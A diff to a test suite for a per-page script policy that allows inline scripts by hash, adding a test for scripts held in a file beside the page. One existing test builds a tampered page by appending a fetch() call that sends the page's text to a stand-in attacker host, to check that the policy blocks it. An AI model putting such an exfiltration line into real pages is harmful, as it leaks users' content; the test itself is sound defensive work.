@@ -28,6 +28,11 @@ describe('the script policy written into each page', () => {
     expect(sources).toEqual([...PAGE_SCRIPT_SOURCES, scriptHashSource(BOOTSTRAP), scriptHashSource(PAYLOAD)])
   })
 
+  it('also allows the inline scripts held in a file beside the page, which run in it when it boots', () => {
+    const held = '<script>self.__next_f.push([1,"held"])</script>'
+    expect(allowedSources(withScriptPolicy(built, held))).toContain(scriptHashSource('self.__next_f.push([1,"held"])'))
+  })
+
   it('does not allow an inline script changed after the build', () => {
     const sources = allowedSources(withScriptPolicy(built))
     const tampered = built.replace(PAYLOAD, `${PAYLOAD};fetch("https://attacker.example/?" + document.body.innerText)`)
